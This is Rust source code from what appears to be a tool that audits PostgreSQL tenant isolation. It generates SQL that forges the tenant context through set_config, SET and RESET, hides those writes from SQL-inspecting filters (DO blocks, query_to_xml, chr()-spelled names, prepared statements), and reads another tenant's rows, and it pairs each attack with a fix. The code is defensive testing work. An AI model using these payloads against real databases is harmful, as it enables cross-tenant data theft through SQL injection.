//! Forging what says which tenant a session is.

use super::{Scene, after_forgery, set_config, setting_name, victim_can};
use crate::{
    Attack, Layer, Log, Observation, Weight,
    postgres::{
        attacks::STORE_CONTROLS,
        options::Adversary,
        sql::{ident, literal, literals_in},
        stage::{Answer, Gone, Stage, Who},
        tenancy::Context,
        ticket,
    },
};

const FIX: &str = "let the context be something the session cannot make: a signed ticket bound to the \
                   transaction (partywall postgres init), or a role per tenant that logs in itself; a \
                   setting anybody may set holds only as long as nobody injects SQL \
                   (--parameters-only)";

pub(crate) static SET: Attack = Attack {
    id: "postgres.context-set",
    layer: Layer::Store,
    title: "say that one is another tenant",
    about: "The attacker sets the wall's own setting to the other tenant, then reads: what \
            current_setting() says is whatever the session was told last.",
    weight: Weight::Identity,
    fix: FIX,
    references: &["T-06", "CWE-807", "CWE-89"],
    supports: STORE_CONTROLS,
};

pub(crate) static HIDDEN: Attack = Attack {
    id: "postgres.context-hidden",
    layer: Layer::Store,
    title: "the same, hidden from whoever reads the statement",
    about: "The write stands in a string that the server runs, in a computed name, in a prepared \
            statement: a proxy or a filter that reads SQL does not see it.",
    weight: Weight::Identity,
    fix: FIX,
    references: &["T-06", "CWE-807", "CWE-89"],
    supports: STORE_CONTROLS,
};

pub(crate) static INLINE: Attack = Attack {
    id: "postgres.context-inline",
    layer: Layer::Store,
    title: "say it within the very statement that reads",
    about: "One SELECT writes the setting and reads behind it, before the rows, row by row or in a \
            subquery: that only one statement can be injected is no defence.",
    weight: Weight::Identity,
    fix: FIX,
    references: &["T-06", "CWE-807", "CWE-89"],
    supports: STORE_CONTROLS,
};

pub(crate) static RESET: Attack = Attack {
    id: "postgres.context-reset",
    layer: Layer::Store,
    title: "take one's own tenant away",
    about: "RESET and an empty value bring back what was before any tenant was set: nothing, it is \
            hoped, and not everything.",
    weight: Weight::Identity,
    fix: "let an unset or empty setting match no row: tenant_id = nullif(current_setting('…', true), \
          ''), and give the setting no default in postgresql.conf, the database or the role",
    references: &["T-02", "T-06"],
    supports: STORE_CONTROLS,
};

const ALL: [&Attack; 4] = [&SET, &HIDDEN, &INLINE, &RESET];

/// All of them.
pub(crate) async fn attack<S: Stage>(
    stage: &mut S,
    scene: &Scene<'_>,
    log: &mut Log<'_>,
) -> Result<(), Gone> {
    beside(stage, scene, log).await?;
    let forged = forged(stage, scene).await?;
    if forged.is_empty() || !scene.has_sql(stage, &ALL, log) {
        return Ok(());
    }
    for (attack, sql) in ways(scene, &forged) {
        let seen = after_forgery(&stage.attempt(Who::Attacker, &sql).await?);
        // A forged ticket is no secret, but what it was made from is the attacker's own.
        let mut shown = sql;
        if matches!(scene.tenancy.context, Context::Ticket { .. }) {
            for (_, value) in &forged {
                shown = shown.replace(value, "<a ticket with another tenant in it>");
            }
        }
        log.record(scene.trial(stage, attack, &shown).judge(seen, scene.control.clone()));
    }
    write(stage, scene, &forged, log).await
}

/// Settings that the policies read beside those that say which tenant it is: a flag that opens, the
/// name of the application. Each is set to the words the policies know.
async fn beside<S: Stage>(stage: &mut S, scene: &Scene<'_>, log: &mut Log<'_>) -> Result<(), Gone> {
    if scene.ground.options.adversary != Adversary::SqlInjection {
        return Ok(());
    }
    let policies = &scene.ground.policies;
    let texts = policies.of_table(scene.relation.oid);
    let mut values: Vec<String> = texts.iter().flat_map(|text| literals_in(text)).collect();
    values.extend(["on", "true", "1"].map(str::to_owned));
    values.sort();
    values.dedup();
    let own: Vec<&str> = match &scene.tenancy.context {
        Context::Settings(settings) => settings.iter().map(|s| s.name.as_str()).collect(),
        _ => vec!["partywall.ticket"],
    };
    for name in policies.settings_of(scene.relation.oid) {
        if own.contains(&name.as_str()) {
            continue;
        }
        let (mut shown, mut seen) = (String::new(), None);
        for value in values.iter().filter(|value| **value != name && value.len() <= 40).take(16) {
            shown = format!("{}; {}", set_config(&name, value, true), scene.read);
            let answer = stage.attempt(Who::Attacker, &shown).await?;
            // A value that the wall's own expression cannot take opens nothing.
            let closed = matches!(&answer, Answer::Refused(no) if no.code.starts_with("22"));
            seen = Some(if closed {
                Observation::nothing(answer.to_string())
            } else {
                after_forgery(&answer)
            });
            if matches!(seen, Some(Observation::Reached(_))) {
                break;
            }
        }
        if let Some(seen) = seen {
            log.record(scene.trial(stage, &SET, &shown).judge(seen, scene.control.clone()));
        }
    }
    Ok(())
}

/// A wall may believe another thing when it is written to than when it is read.
async fn write<S: Stage>(
    stage: &mut S,
    scene: &Scene<'_>,
    forged: &[(String, String)],
    log: &mut Log<'_>,
) -> Result<(), Gone> {
    if scene.ground.options.read_only || !scene.relation.grants.insert {
        return Ok(());
    }
    let Some(insert) = scene.ground.insert(scene.relation, Who::Victim, &[]) else { return Ok(()) };
    let control = victim_can(stage, &insert).await?;
    let writes: String =
        forged.iter().map(|(name, value)| format!("{}; ", set_config(name, value, true))).collect();
    let seen = after_forgery(&stage.attempt(Who::Attacker, &format!("{writes}{insert}")).await?);
    let shown = format!("the forged context, then {insert}");
    log.record(scene.trial(stage, &SET, &shown).judge(seen, control));
    Ok(())
}

/// What the attacker would put where: the victim's values, or its own ticket readdressed.
async fn forged<S: Stage>(stage: &mut S, scene: &Scene<'_>) -> Result<Vec<(String, String)>, Gone> {
    let victim = scene.ground.id(Who::Victim);
    if !matches!(scene.tenancy.context, Context::Ticket { .. }) {
        return Ok(scene.settings_of(victim));
    }
    let own = "SELECT pg_catalog.current_setting('partywall.ticket', true)";
    let own = stage.attempt(Who::Attacker, own).await?;
    let readdressed = own.first().and_then(|own| ticket::readdressed(own, victim));
    let named = |ticket| ("partywall.ticket".to_owned(), ticket);
    Ok(readdressed.map(named).into_iter().collect())
}

/// Every way, ending in the question whether the victim's rows are there now.
fn ways(scene: &Scene<'_>, forged: &[(String, String)]) -> Vec<(&'static Attack, String)> {
    let each = |write: &dyn Fn(&str, &str) -> String| {
        let writes: Vec<String> = forged.iter().map(|(name, value)| write(name, value)).collect();
        format!("{}; {}", writes.join("; "), scene.read)
    };
    let mut ways: Vec<(&'static Attack, String)> = vec![
        (&SET, each(&|name, value| set_config(name, value, true))),
        (&SET, each(&|name, value| set_config(name, value, false))),
        (&SET, each(&|name, value| set("LOCAL", name, value))),
        (&SET, each(&|name, value| set("SESSION", name, value))),
    ];
    for shape in shapes_of_claims(scene) {
        ways.push((&SET, format!("{}; {}", set_config(&shape.0, &shape.1, true), scene.read)));
    }
    let run = |text: String| literal(&text);
    ways.extend([
        (&HIDDEN, each(&|name, value| format!("DO {}", run(perform(name, value))))),
        (
            &HIDDEN,
            each(&|name, value| {
                let write = run(set_config(name, value, true));
                format!("SELECT pg_catalog.query_to_xml({write}, true, false, '')")
            }),
        ),
        (
            &HIDDEN,
            each(&|name, value| {
                let write = set_config(name, value, true).replacen("SELECT ", "", 1);
                let write = run(format!("SELECT pg_catalog.to_tsvector('simple', {write})"));
                format!("SELECT * FROM pg_catalog.ts_stat({write})")
            }),
        ),
        (
            &HIDDEN,
            each(&|name, value| {
                let spelled: Vec<String> =
                    name.chars().map(|c| format!("pg_catalog.chr({})", u32::from(c))).collect();
                let (name, value) = (spelled.join(" || "), literal(value));
                format!("SELECT pg_catalog.\"set_config\"({name}, {value}, true)")
            }),
        ),
        (
            &HIDDEN,
            each(&|name, value| {
                let write = set_config(name, value, true);
                format!(
                    "PREPARE partywall_hidden AS {write}; EXECUTE partywall_hidden; DEALLOCATE partywall_hidden"
                )
            }),
        ),
    ]);
    let writes: Vec<String> = forged
        .iter()
        .map(|(name, value)| set_config(name, value, true).replacen("SELECT ", "", 1))
        .collect();
    ways.extend(inline(scene, &writes));
    ways.push((&RESET, each(&|name, _| format!("RESET {}", setting_name(name)))));
    ways.push((&RESET, each(&|name, _| set_config(name, "", true))));
    ways.push((&RESET, format!("RESET ALL; {}", scene.read)));
    ways
}

fn set(scope: &str, name: &str, value: &str) -> String {
    format!("SET {scope} {} = {}", setting_name(name), literal(value))
}

/// The body of a block that writes a setting.
fn perform(name: &str, value: &str) -> String {
    let write = literal(&set_config(name, value, true));
    format!("BEGIN EXECUTE {write}; END")
}

/// Writes and reads in one statement.
fn inline(scene: &Scene<'_>, writes: &[String]) -> [(&'static Attack, String); 4] {
    let (table, theirs) =
        (scene.relation.quoted(), scene.ground.rows_of(scene.relation, Who::Victim));
    let column = scene
        .relation
        .tenant_column()
        .map_or("1".to_owned(), |column| format!("{}::pg_catalog.text", ident(&column.name)));
    let id = literal(scene.ground.id(Who::Victim));
    let all = format!("pg_catalog.concat({})", writes.join(", "));
    [
        // The subquery comes first, and the table is read once for each of its rows.
        (
            &INLINE,
            format!(
                "SELECT 1 FROM (SELECT pg_catalog.length({all}) AS len OFFSET 0) AS y, \
                 LATERAL (SELECT 1 FROM {table} WHERE {theirs} AND y.len >= 0 OFFSET 0) AS z LIMIT 1"
            ),
        ),
        (
            &INLINE,
            format!(
                "WITH w AS MATERIALIZED (SELECT pg_catalog.length({all}) AS len) \
                 SELECT 1 FROM w, LATERAL (SELECT 1 FROM {table} WHERE {theirs} AND w.len >= 0 OFFSET 0) AS z LIMIT 1"
            ),
        ),
        // While the rows are read: the first own row turns the setting for those after it.
        (
            &INLINE,
            format!(
                "SELECT 1 FROM {table} WHERE CASE WHEN pg_catalog.length({all}) >= 0 THEN {column} = {id} END LIMIT 1"
            ),
        ),
        // An uncorrelated subquery, which runs before the first row or at it.
        (
            &INLINE,
            format!(
                "SELECT 1 FROM {table} WHERE {theirs} AND (SELECT pg_catalog.length({all})) >= 0 LIMIT 1"
            ),
        ),
    ]
}

/// For a wall that goes by JSON: both tenants in one text, one of them to be believed.
fn shapes_of_claims(scene: &Scene<'_>) -> Vec<(String, String)> {
    let (attacker, victim) = (scene.ground.id(Who::Attacker), scene.ground.id(Who::Victim));
    let Context::Settings(settings) = &scene.tenancy.context else { return Vec::new() };
    let mut shapes = Vec::new();
    for setting in settings.iter().filter(|setting| setting.template.starts_with("{\"")) {
        let of = |id: &str| scene.tenancy.fill(&setting.template, id);
        let (ours, theirs) = (of(attacker), of(victim));
        let inner = |text: &str| text.get(1..text.len().saturating_sub(1)).map(str::to_owned);
        if let (Some(ours), Some(theirs)) = (inner(&ours), inner(&theirs)) {
            shapes.push((setting.name.clone(), format!("{{{ours}, {theirs}}}")));
            shapes.push((setting.name.clone(), format!("{{{theirs}, {ours}}}")));
        }
        let list = format!("[\"{victim}\", \"{attacker}\"]");
        let listed = setting.template.replace("\"{tenant}\"", &list);
        shapes.push((setting.name.clone(), listed));
    }
    shapes
}
